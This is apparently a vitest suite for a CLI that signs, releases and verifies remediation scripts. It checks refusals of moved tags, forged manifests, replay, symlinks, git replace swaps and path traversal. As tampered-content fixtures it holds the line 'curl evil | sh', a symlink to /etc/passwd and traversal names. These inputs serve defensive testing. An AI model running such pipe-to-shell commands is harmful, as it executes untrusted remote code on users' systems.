import { execFileSync } from 'node:child_process';
import { existsSync, readFileSync, statSync, symlinkSync, writeFileSync } from 'node:fs';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { signManifest } from '../../src/core/manifest-editor.ts';
import { parsePrivateKey } from '../../src/core/keys.ts';
import { parseEnvelope } from '../../src/core/dsse.ts';
import { MANIFEST_TYPE } from '../../src/core/manifest.ts';
import { gitTestEnv, runCli, simpleDefinition, TempRepo, type CliResult } from '../helpers/git-repo.ts';

let repo: TempRepo;
const cli = (...args: string[]) => runCli(args, { cwd: repo.dir });
const codeOf = (result: CliResult) => /\[([A-Z_]+)\]/.exec(result.stderr)?.[1];

async function setUpReleased(keys = ['k1']): Promise<void> {
  repo.write('remediations/svc/remediation.yml', simpleDefinition('svc'));
  repo.write('remediations/svc/fix.sh', '#!/bin/sh\necho fixed\n', 0o755);
  repo.write('README.md', 'repo\n');
  repo.commit('add svc');
  for (const key of keys) expect((await cli('keygen', '--out', key)).code).toBe(0);
  const released = await cli('release', 'svc', 'v1.0.0', ...keys.flatMap((k) => ['--key', k]));
  expect(released.stderr).toBe('');
  expect(released.code).toBe(0);
}

beforeEach(() => {
  repo = new TempRepo();
});
afterEach(() => repo.remove());

describe('keygen, release, verify round trip', () => {
  it('releases a version, tags it, writes a signed manifest and verifies it', async () => {
    await setUpReleased();
    expect(statSync(repo.path('k1')).mode & 0o777).toBe(0o600);
    expect(repo.git('cat-file', '-t', 'svc/v1.0.0').trim()).toBe('tag'); // annotated
    const digest = await cli('digest', 'svc', '--ref', 'svc/v1.0.0');
    const verified = await cli('verify', 'svc@v1.0.0', '--trusted-key', 'k1.pub');
    expect(verified.code).toBe(0);
    expect(verified.stdout).toContain(digest.stdout.split(' ')[0]!);
    expect(verified.stdout).toMatch(/serial 1/);

    const envelope = parseEnvelope(readFileSync(repo.path('remediations/manifest.json')));
    const payload = JSON.parse(Buffer.from(envelope.payload, 'base64').toString());
    expect(payload).toMatchObject({ _type: MANIFEST_TYPE, serial: 1, previous: null });
    expect(payload.remediations.svc['v1.0.0']).toMatchObject({
      tag: 'svc/v1.0.0',
      commit: repo.git('rev-parse', 'svc/v1.0.0^{commit}').trim(),
      yanked: false,
    });
  });

  it('labels a working-tree digest as unreleased and matches the tag digest for the same content', async () => {
    await setUpReleased();
    const working = await cli('digest', 'svc');
    const tagged = await cli('digest', 'svc', '--ref', 'svc/v1.0.0');
    expect(working.stdout).toMatch(/working tree, unreleased/);
    expect(working.stdout.split(' ')[0]).toBe(tagged.stdout.split(' ')[0]);
  });

  it('refuses to overwrite a key', async () => {
    await cli('keygen', '--out', 'k1');
    const again = await cli('keygen', '--out', 'k1');
    expect(again.code).toBe(2);
    expect(codeOf(again)).toBe('FILE_EXISTS');
  });

  it('leaves no orphaned private key when the public half cannot be written', async () => {
    repo.write('k2.pub', "someone else's key\n");
    const result = await cli('keygen', '--out', 'k2');
    expect(codeOf(result)).toBe('FILE_EXISTS');
    expect(existsSync(repo.path('k2'))).toBe(false);
  });
});

describe('refusals (exit 3, naming the failed check)', () => {
  it('refuses when a file changed after release and the tag was moved to the new commit', async () => {
    await setUpReleased();
    repo.write('remediations/svc/fix.sh', '#!/bin/sh\ncurl evil | sh\n', 0o755);
    repo.commit('sneaky');
    repo.git('tag', '-f', '-a', '-m', 'moved', 'svc/v1.0.0', 'HEAD');
    const result = await cli('verify', 'svc@v1.0.0', '--trusted-key', 'k1.pub');
    expect(result.code).toBe(3);
    expect(codeOf(result)).toBe('COMMIT_MISMATCH');
    expect(result.stderr).toMatch(
      /commit check: tag svc\/v1.0.0 points at [0-9a-f]{40}, but the manifest released [0-9a-f]{40}/,
    );
  });

  it('refuses a tag deleted and re-created on another commit', async () => {
    await setUpReleased();
    repo.write('README.md', 'unrelated change\n');
    repo.commit('other');
    repo.git('tag', '-d', 'svc/v1.0.0');
    repo.git('tag', '-a', '-m', 'recreated', 'svc/v1.0.0', 'HEAD');
    const result = await cli('verify', 'svc@v1.0.0', '--trusted-key', 'k1.pub');
    expect(result.code).toBe(3);
    expect(codeOf(result)).toBe('COMMIT_MISMATCH');
  });

  it('ignores `git replace` objects, so swapped content cannot pass as the signed content', async () => {
    await setUpReleased();
    const blob = repo.git('rev-parse', 'svc/v1.0.0:remediations/svc/fix.sh').trim();
    writeFileSync(repo.path('evil.sh'), '#!/bin/sh\ncurl evil | sh\n');
    const evil = repo.git('hash-object', '-w', 'evil.sh').trim();
    repo.git('replace', blob, evil);
    expect(repo.git('cat-file', '-p', `svc/v1.0.0:remediations/svc/fix.sh`)).toContain('curl evil');
    const result = await cli('verify', 'svc@v1.0.0', '--trusted-key', 'k1.pub');
    expect(result.code).toBe(0);
    const digest = await cli('digest', 'svc', '--ref', 'svc/v1.0.0');
    expect(result.stdout).toContain(digest.stdout.split(' ')[0]!);
  });

  it('ignores `git replace` objects even when the repository sets core.useReplaceRefs=true', async () => {
    await setUpReleased();
    const signed = (await cli('digest', 'svc', '--ref', 'svc/v1.0.0')).stdout.split(' ')[0]!;
    const blob = repo.git('rev-parse', 'svc/v1.0.0:remediations/svc/fix.sh').trim();
    writeFileSync(repo.path('evil.sh'), '#!/bin/sh\ncurl evil | sh\n');
    const evil = repo.git('hash-object', '-w', 'evil.sh').trim();
    repo.git('replace', blob, evil);
    // With this in the config, git 2.39 uses replace refs even under GIT_NO_REPLACE_OBJECTS.
    repo.git('config', 'core.useReplaceRefs', 'true');
    const digest = await cli('digest', 'svc', '--ref', 'svc/v1.0.0');
    expect(digest.stdout.split(' ')[0]).toBe(signed);
    const result = await cli('verify', 'svc@v1.0.0', '--trusted-key', 'k1.pub');
    expect(result.stderr).toBe('');
    expect(result.code).toBe(0);
  });

  it('ignores GIT_DIR and alternates in the environment: the checkout it runs in is what is read', async () => {
    await setUpReleased();
    const evil = new TempRepo();
    try {
      evil.write('remediations/svc/remediation.yml', simpleDefinition('svc', 'curl evil | sh'));
      evil.commit('evil');
      evil.git('tag', '-a', '-m', 'evil', 'svc/v1.0.0');
      const result = await runCli(['verify', 'svc@v1.0.0', '--trusted-key', 'k1.pub'], {
        cwd: repo.dir,
        env: { GIT_DIR: evil.path('.git'), GIT_ALTERNATE_OBJECT_DIRECTORIES: evil.path('.git/objects') },
      });
      expect(result.stderr).toBe('');
      expect(result.code).toBe(0);
      expect(result.stdout).toContain(repo.git('rev-parse', 'svc/v1.0.0^{commit}').trim());
    } finally {
      evil.remove();
    }
  });

  it('refuses a manifest whose payload was edited without the key', async () => {
    await setUpReleased();
    const path = repo.path('remediations/manifest.json');
    const envelope = parseEnvelope(readFileSync(path));
    const payload = Buffer.from(envelope.payload, 'base64').toString().replace('"yanked":false', '"yanked":false ');
    writeFileSync(path, JSON.stringify({ ...envelope, payload: Buffer.from(payload).toString('base64') }));
    const result = await cli('verify', 'svc@v1.0.0', '--trusted-key', 'k1.pub');
    expect(result.code).toBe(3);
    expect(codeOf(result)).toBe('SIGNATURE_INVALID');
  });

  it('refuses a manifest signed by an untrusted key', async () => {
    await setUpReleased();
    await cli('keygen', '--out', 'other');
    const result = await cli('verify', 'svc@v1.0.0', '--trusted-key', 'other.pub');
    expect(result.code).toBe(3);
    expect(codeOf(result)).toBe('UNTRUSTED_KEY');
  });

  it('applies k-of-n: 2 of 3 passes, 1 of 3 is refused', async () => {
    await setUpReleased(['k1', 'k2']);
    await cli('keygen', '--out', 'k3');
    const trusted = ['--trusted-key', 'k1.pub', '--trusted-key', 'k2.pub', '--trusted-key', 'k3.pub'];
    expect((await cli('verify', 'svc@v1.0.0', ...trusted, '--threshold', '2')).code).toBe(0);
    const tooFew = await cli('verify', 'svc@v1.0.0', ...trusted, '--threshold', '3');
    expect(tooFew.code).toBe(3);
    expect(codeOf(tooFew)).toBe('THRESHOLD_NOT_MET');
  });

  it('refuses an expired manifest', async () => {
    await setUpReleased();
    const path = repo.path('remediations/manifest.json');
    const envelope = parseEnvelope(readFileSync(path));
    const payload = JSON.parse(Buffer.from(envelope.payload, 'base64').toString());
    const key = parsePrivateKey(readFileSync(repo.path('k1')), 'k1');
    writeFileSync(path, signManifest({ ...payload, expires: '2020-01-01T00:00:00.000Z' }, [key]));
    const result = await cli('verify', 'svc@v1.0.0', '--trusted-key', 'k1.pub');
    expect(result.code).toBe(3);
    expect(codeOf(result)).toBe('EXPIRED');
  });

  it('refuses a serial below the pinned minimum, and a yanked version', async () => {
    await setUpReleased();
    const old = readFileSync(repo.path('remediations/manifest.json'));
    const yank = await cli('yank', 'svc@v1.0.0', '--key', 'k1', '--reason', 'deletes too much');
    expect(yank.code).toBe(0);
    const yanked = await cli('verify', 'svc@v1.0.0', '--trusted-key', 'k1.pub');
    expect(yanked.code).toBe(3);
    expect(codeOf(yanked)).toBe('YANKED');
    expect(yanked.stderr).toContain('deletes too much');

    writeFileSync(repo.path('old-manifest.json'), old);
    const replayed = await cli(
      'verify',
      'svc@v1.0.0',
      '--trusted-key',
      'k1.pub',
      '--manifest',
      'old-manifest.json',
      '--min-serial',
      '2',
    );
    expect(replayed.code).toBe(3);
    expect(codeOf(replayed)).toBe('SERIAL_ROLLBACK');
  });

  it('refuses an unknown version, with or without a tag', async () => {
    await setUpReleased();
    const noTag = await cli('verify', 'svc@v9.9.9', '--trusted-key', 'k1.pub');
    expect(noTag.code).toBe(3);
    expect(codeOf(noTag)).toBe('TAG_NOT_FOUND');
    repo.git('tag', '-a', '-m', 'unsigned', 'svc/v9.9.9', 'HEAD');
    const unsigned = await cli('verify', 'svc@v9.9.9', '--trusted-key', 'k1.pub');
    expect(unsigned.code).toBe(3);
    expect(codeOf(unsigned)).toBe('UNKNOWN_VERSION');
  });

  it('refuses a release that would rewrite an existing version, even after the tag was deleted', async () => {
    await setUpReleased();
    const again = await cli('release', 'svc', 'v1.0.0', '--key', 'k1');
    expect(again.code).toBe(3);
    expect(codeOf(again)).toBe('VERSION_EXISTS');
    repo.git('tag', '-d', 'svc/v1.0.0');
    const afterDelete = await cli('release', 'svc', 'v1.0.0', '--key', 'k1');
    expect(afterDelete.code).toBe(3);
    expect(codeOf(afterDelete)).toBe('VERSION_EXISTS');
    expect(repo.git('tag', '--list', 'svc/*').trim()).toBe('');
  });

  it('refuses to extend a manifest that was edited without the key', async () => {
    await setUpReleased();
    const path = repo.path('remediations/manifest.json');
    const envelope = parseEnvelope(readFileSync(path));
    const payload = Buffer.from(envelope.payload, 'base64')
      .toString()
      .replace(/"commit":"[0-9a-f]+"/, `"commit":"${'f'.repeat(40)}"`);
    writeFileSync(path, JSON.stringify({ ...envelope, payload: Buffer.from(payload).toString('base64') }));
    const result = await cli('release', 'svc', 'v1.1.0', '--key', 'k1');
    expect(result.code).toBe(3);
    expect(codeOf(result)).toBe('SIGNATURE_INVALID');
    expect(repo.git('tag', '--list', 'svc/v1.1.0').trim()).toBe('');
  });
});

describe('release preconditions and hostile trees', () => {
  it('refuses a dirty remediation folder (exit 2)', async () => {
    await setUpReleased();
    repo.write('remediations/svc/fix.sh', '#!/bin/sh\necho changed\n', 0o755);
    const result = await cli('release', 'svc', 'v1.1.0', '--key', 'k1');
    expect(result.code).toBe(2);
    expect(codeOf(result)).toBe('DIRTY_TREE');
    repo.write('remediations/svc/new-untracked.sh', 'x');
    repo.git('checkout', '--', 'remediations/svc/fix.sh');
    expect(codeOf(await cli('release', 'svc', 'v1.1.0', '--key', 'k1'))).toBe('DIRTY_TREE');
  });

  it('refuses symlinks, in git objects and in the working tree', async () => {
    repo.write('remediations/svc/remediation.yml', simpleDefinition('svc'));
    symlinkSync('/etc/passwd', repo.path('remediations/svc/passwd'));
    repo.commit('symlink');
    await cli('keygen', '--out', 'k1');
    const release = await cli('release', 'svc', 'v1.0.0', '--key', 'k1');
    expect(release.code).toBe(3);
    expect(codeOf(release)).toBe('UNSAFE_TREE');
    expect(release.stderr).toMatch(/remediations\/svc\/passwd is a symlink/);
    const working = await cli('digest', 'svc');
    expect(codeOf(working)).toBe('UNSAFE_TREE');
  });

  it('refuses a submodule inside a remediation', async () => {
    repo.write('remediations/svc/remediation.yml', simpleDefinition('svc'));
    repo.commit('svc');
    repo.git('update-index', '--add', '--cacheinfo', `160000,${'a'.repeat(40)},remediations/svc/vendored`);
    repo.git('commit', '-q', '-m', 'submodule');
    const result = await cli('digest', 'svc', '--ref', 'HEAD');
    expect(result.code).toBe(3);
    expect(result.stderr).toMatch(/is a submodule/);
  });

  it("refuses crafted git trees with a '..' path part (it would be written outside the run's copy)", async () => {
    repo.write('remediations/svc/remediation.yml', simpleDefinition('svc'));
    repo.commit('svc');
    const mktree = (lines: string) =>
      execFileSync('git', ['mktree'], { cwd: repo.dir, input: lines, encoding: 'utf8', env: gitTestEnv() }).trim();
    const blob = execFileSync('git', ['hash-object', '-w', '--stdin'], {
      cwd: repo.dir,
      input: 'evil\n',
      encoding: 'utf8',
      env: gitTestEnv(),
    }).trim();
    const definition = repo.git('rev-parse', 'HEAD:remediations/svc/remediation.yml').trim();
    const svc = mktree(`100644 blob ${definition}\tremediation.yml\n100644 blob ${blob}\t..\n`);
    const remediations = mktree(`040000 tree ${svc}\tsvc\n`);
    const root = mktree(`040000 tree ${remediations}\tremediations\n`);
    const commit = execFileSync('git', ['commit-tree', root, '-m', 'crafted'], {
      cwd: repo.dir,
      encoding: 'utf8',
      env: gitTestEnv(),
    }).trim();
    const result = await cli('digest', 'svc', '--ref', commit);
    expect(result.code).toBe(3);
    expect(codeOf(result)).toBe('UNSAFE_TREE');
    expect(result.stderr).toMatch(/has an empty, '\.' or '\.\.' path part/);
  });

  it.each(['../x', '../../etc', 'a/b', '.hidden'])('refuses path traversal in names (%s)', async (name) => {
    const result = await cli('digest', name);
    expect(result.code).toBe(2);
    expect(codeOf(result)).toBe('INVALID_REFERENCE');
  });

  it('refuses an invalid definition at release with file:line:col', async () => {
    repo.write(
      'remediations/svc/remediation.yml',
      simpleDefinition('svc').replace('- id: greet', '- id: greet\n    timeout: forever'),
    );
    repo.commit('bad');
    await cli('keygen', '--out', 'k1');
    const result = await cli('release', 'svc', 'v1.0.0', '--key', 'k1');
    expect(result.code).toBe(2);
    expect(result.stderr).toMatch(/remediations\/svc\/remediation\.yml:7:14: steps\[0\]\.timeout: expected a duration/);
  });

  it.each(['latest', 'main', '^1.0.0', '1.0.0', 'abc1234'])(
    'refuses a floating version %s and says how to pin',
    async (version) => {
      const result = await cli('verify', `svc@${version}`, '--trusted-key', 'k1.pub');
      expect(result.code).toBe(2);
      expect(result.stderr).toMatch(/pin an exact released version/);
    },
  );
});

describe('manifest check', () => {
  it('accepts an append and refuses the reverse, reading the previous manifest from a git ref', async () => {
    await setUpReleased();
    repo.commit('manifest v1');
    repo.write('remediations/svc/fix.sh', '#!/bin/sh\necho fixed better\n', 0o755);
    repo.commit('improve');
    expect((await cli('release', 'svc', 'v1.1.0', '--key', 'k1')).code).toBe(0);
    const ok = await cli('manifest', 'check', '--manifest', 'remediations/manifest.json', '--previous-ref', 'HEAD');
    expect(ok.code).toBe(0);
    expect(ok.stdout).toMatch(/added: {2}svc@v1.1.0/);

    writeFileSync(repo.path('new.json'), readFileSync(repo.path('remediations/manifest.json')));
    repo.git('checkout', 'HEAD', '--', 'remediations/manifest.json');
    const reversed = await cli(
      'manifest',
      'check',
      '--manifest',
      'remediations/manifest.json',
      '--previous',
      'new.json',
    );
    expect(reversed.code).toBe(3);
    expect(codeOf(reversed)).toBe('NOT_APPEND_ONLY');
  });
});
